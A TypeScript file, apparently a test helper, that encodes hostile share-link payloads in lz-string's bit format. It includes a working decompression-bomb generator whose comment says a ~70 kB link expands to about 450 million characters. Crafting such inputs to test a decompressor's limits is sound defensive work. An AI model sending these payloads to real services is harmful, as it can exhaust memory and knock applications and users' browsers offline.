/**
 * Hostile share-link payloads written bit by bit in lz-string's format (6 bits per URI-safe
 * character, values least significant bit first): what an attacker would hand-craft.
 */
const ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$';

class BitWriter {
  private readonly chars: string[] = [];
  private value = 0;
  private filled = 0;

  write(value: number, count: number): void {
    for (let i = 0; i < count; i++) {
      this.value = (this.value << 1) | ((value >> i) & 1);
      if (++this.filled === 6) this.flush();
    }
  }

  done(): string {
    if (this.filled > 0) {
      this.value <<= 6 - this.filled;
      this.flush();
    }
    return this.chars.join('');
  }

  private flush(): void {
    this.chars.push(ALPHABET.charAt(this.value));
    this.value = 0;
    this.filled = 0;
  }
}

/**
 * A payload of `codes` codes, each "the previous entry plus its first character": the output
 * grows by one character per code, so it decompresses to about codes²/2 characters of "a".
 * 30,000 codes make a ~70 kB link that lz-string turns into ~450 million characters.
 */
export function quadraticBomb(codes: number): string {
  const out = new BitWriter();
  out.write(0, 2);
  out.write('a'.charCodeAt(0), 8);
  let dictSize = 4;
  let numBits = 3;
  let enlargeIn = 4;
  for (let k = 0; k < codes; k++) {
    out.write(dictSize, numBits);
    dictSize += 1;
    if (--enlargeIn === 0) {
      enlargeIn = 2 ** numBits;
      numBits++;
    }
  }
  out.write(2, numBits);
  return out.done();
}
